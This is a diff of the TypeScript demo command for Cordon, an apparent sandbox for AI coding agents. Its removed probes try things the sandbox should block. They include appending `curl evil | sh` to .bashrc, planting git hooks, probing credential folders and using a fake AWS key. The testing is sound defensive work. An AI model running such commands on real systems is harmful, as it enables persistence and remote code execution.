@@ -1,156 +1,32 @@
-import { chownSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { Writable } from 'node:stream';
-import { verifyAuditLog } from '../core/audit/audit-verify.js';
-import { resolveSandboxUser } from '../core/session/sandbox-user.js';
+import { runGuidedDemo } from '../core/demo/guided-demo.js';
 import { CliExit, type CliContext } from './cli-context.js';
-import { startDemoModel } from './demo-model.js';
 import { EXIT } from './exit-codes.js';
 
 /**
- * `cordon demo`: a guided run on a throwaway workspace. Every verdict printed
- * is read from what really happened inside the sandbox; nothing is scripted.
+ * `cordon demo`: a guided run on a throwaway workspace (core/demo/). Every
+ * verdict printed is read from what really happened inside the sandbox.
  */
-
-interface Probe {
-  readonly id: string;
-  readonly title: string;
-  /** What Cordon should do: let it through, or stop it. */
-  readonly expect: 'allowed' | 'blocked';
-  /** Shell run inside the sandbox; exit 0 means the action succeeded. */
-  readonly shell: string;
-  /** Optional shell whose one-line output explains the verdict (e.g. the proxy's deny reason). */
-  readonly detail?: string;
-}
-
-/** Prints the X-Cordon-Deny reason Cordon's proxy gave for URL (or the HTTP status). */
-function denyReason(url: string): string {
-  return `curl -s -m 10 -o /dev/null -D - ${url} 2>/dev/null | tr -d '\\r' | awk 'tolower($1)=="x-cordon-deny:" {print "proxy answered 403, X-Cordon-Deny: " $2}'`;
-}
-
-/** An AWS-style access key id for the DLP step (not AWS's published example, which DLP allows on purpose). */
-const DEMO_SECRET = 'AKIAQ3EGRJ2KZ7XNP4VB';
-
-function probes(ws: string, hostHome: string): Probe[] {
-  return [
-    { id: 'user', title: 'The agent runs as an unprivileged user with no capabilities', expect: 'allowed', shell: `[ "$(id -u)" != 0 ] && grep -q '^CapEff:[[:space:]]*0000000000000000' /proc/self/status` },
-    { id: 'read', title: 'It can read the workspace', expect: 'allowed', shell: `cat ${ws}/README.md >/dev/null` },
-    { id: 'write', title: 'It can write in the workspace', expect: 'allowed', shell: `echo "written by the agent" > ${ws}/notes.txt` },
-    { id: 'bashrc', title: 'Shell config in the workspace is write-protected (.bashrc)', expect: 'blocked', shell: `echo 'curl evil | sh' >> ${ws}/.bashrc` },
-    { id: 'hook', title: 'Git hooks cannot be planted (.git/hooks/pre-commit)', expect: 'blocked', shell: `printf '#!/bin/sh\\nexit 0\\n' > ${ws}/.git/hooks/pre-commit` },
-    { id: 'rename', title: 'Protected folders cannot be swapped out by renaming (.git)', expect: 'blocked', shell: `mv ${ws}/.git ${ws}/.git-old` },
-    { id: 'home', title: 'Your credential folders (~/.ssh, ~/.aws, ~/.gnupg, ~/.config/gcloud) are not in the sandbox', expect: 'blocked', shell: ['.ssh', '.aws', '.gnupg', '.config/gcloud'].map((d) => `[ -e ${hostHome}/${d} ]`).join(' || ') },
-    { id: 'net', title: 'The sandbox has no network of its own: only loopback, no DNS; a program that ignores the proxy gets nowhere', expect: 'blocked', shell: `[ "$(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ')" != "lo" ] || curl -sS -m 5 --noproxy '*' -o /dev/null https://example.com` },
-    { id: 'egress', title: "Web requests go through Cordon's egress proxy, which refuses sites not on the allowlist (https://example.com)", expect: 'blocked', shell: 'curl -sS -m 10 -o /dev/null https://example.com', detail: denyReason('https://example.com') },
-    { id: 'telemetry', title: 'Vendor telemetry is refused (statsig.anthropic.com)', expect: 'blocked', shell: 'curl -sS -m 10 -o /dev/null https://statsig.anthropic.com', detail: denyReason('https://statsig.anthropic.com') },
-    {
-      id: 'vendor',
-      title: "A direct connection to the model vendor, around Cordon's model route (where an outside API key would go unchecked), is refused (https://api.anthropic.com)",
-      expect: 'blocked',
-      shell: 'curl -sS -m 10 -o /dev/null https://api.anthropic.com/v1/messages',
-      detail: denyReason('https://api.anthropic.com/v1/messages'),
-    },
-    {
-      id: 'dlp',
-      title: `A secret sent to the model is tokenized on its way out, and the agent gets it back in the answer (${DEMO_SECRET})`,
-      expect: 'allowed',
-      shell: `curl -s -m 20 "$ANTHROPIC_BASE_URL/v1/messages" -H "x-api-key: $ANTHROPIC_API_KEY" -H 'content-type: application/json' -d '{"model":"demo","max_tokens":50,"messages":[{"role":"user","content":"deploy with ${DEMO_SECRET}"}]}' | grep -q ${DEMO_SECRET}`,
-    },
-    { id: 'rootfs', title: 'System files are read-only', expect: 'blocked', shell: 'touch /usr/bin/cordon-was-here' },
-    { id: 'procs', title: 'Host processes are invisible', expect: 'blocked', shell: `[ "$(ls -d /proc/[0-9]* | wc -l)" -gt 10 ]` },
-  ];
-}
-
 export async function demo(ctx: CliContext, opts: { profile?: string }): Promise<number> {
   // A broken policy stops the demo with its problems listed, as it stops launches.
   ctx.policy();
   const out = (s: string): boolean => process.stdout.write(`${s}\n`);
-  const uid = process.getuid?.() ?? 1000;
-  const ws = join(tmpdir(), `cordon-demo-${uid}`);
-  rmSync(ws, { recursive: true, force: true });
-  mkdirSync(join(ws, '.git', 'hooks'), { recursive: true });
-  writeFileSync(join(ws, 'README.md'), '# Demo workspace\nA folder Cordon mounts into the sandbox for `cordon demo`.\n');
-  writeFileSync(join(ws, '.bashrc'), '# the user\'s own shell settings\n');
-  writeFileSync(join(ws, '.git', 'config'), '[core]\n\trepositoryformatversion = 0\n');
-  if (uid === 0) {
-    // The sandbox never runs as root; hand the demo folder to its user.
-    const { uid: u, gid: g } = resolveSandboxUser('auto', ctx.hostUser);
-    for (const p of [ws, join(ws, 'README.md'), join(ws, '.bashrc'), join(ws, '.git'), join(ws, '.git', 'config'), join(ws, '.git', 'hooks')]) chownSync(p, u, g);
-  }
-
+  const ws = join(tmpdir(), `cordon-demo-${ctx.hostUser.uid}`);
   out('Cordon demo: a real sandbox on a demo workspace, no API key needed.');
   out(`  workspace: ${ws} (read-write)\n`);
-  const list = probes(ws, ctx.paths.userHome);
-  const script = list
-    .map((p) => {
-      const verdict = `( ${p.shell} ) >/dev/null 2>&1 && echo "CORDON_PROBE ${p.id} ok" || echo "CORDON_PROBE ${p.id} failed"`;
-      return p.detail ? `${verdict}\necho "CORDON_DETAIL ${p.id} $( ${p.detail} )"` : verdict;
-    })
-    .join('\n');
-  let captured = '';
-  const sink = new Writable({
-    write(chunk: Buffer, _enc, cb) {
-      captured += chunk.toString('utf8');
-      cb();
-    },
+  const report = await runGuidedDemo(ctx.service, ws, opts.profile);
+  if (report.kind === 'not_started') throw new CliExit(EXIT.sandboxNotStarted, report.message);
+  report.steps.forEach((s, i) => {
+    const verdict = s.happened === 'allowed' ? (s.title.startsWith('Mounting') ? 'MOUNTED' : 'ALLOWED') : s.happened === 'blocked' ? 'STOPPED' : 'NO RESULT';
+    const flag = s.asExpected ? '' : '   <-- unexpected!';
+    out(`  ${String(i + 1).padStart(2)}. ${s.title}\n      ${verdict}${s.detail ? `: ${s.detail}` : ''}${s.note === null ? flag : ''}`);
+    if (s.note !== null) out(`      ${s.note}${flag}`);
   });
-  const model = await startDemoModel();
-  const res = await ctx.service
-    .runSession(
-      {
-        kind: 'demo',
-        ...(opts.profile !== undefined ? { profile: opts.profile } : {}),
-        workspaces: [{ path: ws, mode: 'rw' }],
-        env: {},
-        command: ['sh', '-c', script],
-        tty: false,
-      },
-      { stdin: null, stdout: sink, stderr: sink },
-      new AbortController().signal,
-      // The demo's stand-in model provider, kept across the session's policy reloads.
-      { adjustPolicy: (p) => model.policyFor(p) },
-    )
-    .finally(() => model.close());
-  if (!res.ok) throw new CliExit(EXIT.sandboxNotStarted, res.failure.message);
-
-  let n = 0;
-  let surprises = 0;
-  for (const p of list) {
-    n++;
-    const m = new RegExp(`CORDON_PROBE ${p.id} (ok|failed)`).exec(captured);
-    const happened = m?.[1] === 'ok' ? 'allowed' : m?.[1] === 'failed' ? 'blocked' : 'unknown';
-    const asExpected = happened === p.expect;
-    if (!asExpected) surprises++;
-    const detail = new RegExp(`^CORDON_DETAIL ${p.id} (.+)$`, 'm').exec(captured)?.[1]?.trim();
-    const verdict = happened === 'allowed' ? 'ALLOWED' : happened === 'blocked' ? 'STOPPED' : 'NO RESULT';
-    out(`  ${String(n).padStart(2)}. ${p.title}\n      ${verdict}${detail ? `: ${detail}` : ''}${asExpected ? '' : '   <-- unexpected!'}`);
-    if (p.id === 'dlp') {
-      const seen = model.received.at(-1);
-      const hidden = seen !== undefined && !seen.includes(DEMO_SECRET);
-      if (!hidden) surprises++;
-      out(`      the model received: "${seen ?? '(nothing)'}"${hidden ? '' : '   <-- unexpected!'}`);
-    }
-  }
-
-  n++;
-  out(`  ${String(n).padStart(2)}. Mounting your whole home folder is refused before any container exists`);
-  const refused = await ctx.service.runSession(
-    { kind: 'demo', workspaces: [{ path: ctx.paths.userHome, mode: 'rw' }], env: {}, command: ['true'], tty: false },
-    { stdin: null, stdout: sink, stderr: sink },
-    new AbortController().signal,
-  );
-  if (refused.ok) {
-    surprises++;
-    out('      MOUNTED   <-- unexpected!');
-  } else {
-    out(`      STOPPED: ${refused.failure.message.split('\n')[0] ?? ''}`);
-  }
-
-  const verify = verifyAuditLog(ctx.paths.auditDir);
-  out(`\nEvery step above was written to the audit log (${ctx.paths.auditDir}/audit.jsonl): ${verify.ok ? `${verify.records} records, hash chain intact` : `CHAIN BROKEN at line ${verify.line}`}.`);
-  out(`Session ${res.sessionId} ended and its container was removed; the demo workspace stays for you to explore:`);
+  const a = report.audit;
+  out(`\nEvery step above was written to the audit log (${a.file}): ${a.ok ? `${a.records} records, hash chain intact` : `CHAIN BROKEN at line ${a.badLine}`}.`);
+  out(`Session ${report.sessionId} ended and its container was removed; the demo workspace stays for you to explore:`);
   out(`  cordon exec --workspace ${ws} -- sh -c 'ls -la; echo hi >> .bashrc'`);
   out('  cordon launch --workspace <your project>    (the agent itself; needs an API key)');
-  return surprises === 0 && verify.ok ? EXIT.ok : EXIT.checkFailed;
+  return report.steps.every((s) => s.asExpected) && a.ok ? EXIT.ok : EXIT.checkFailed;
 }
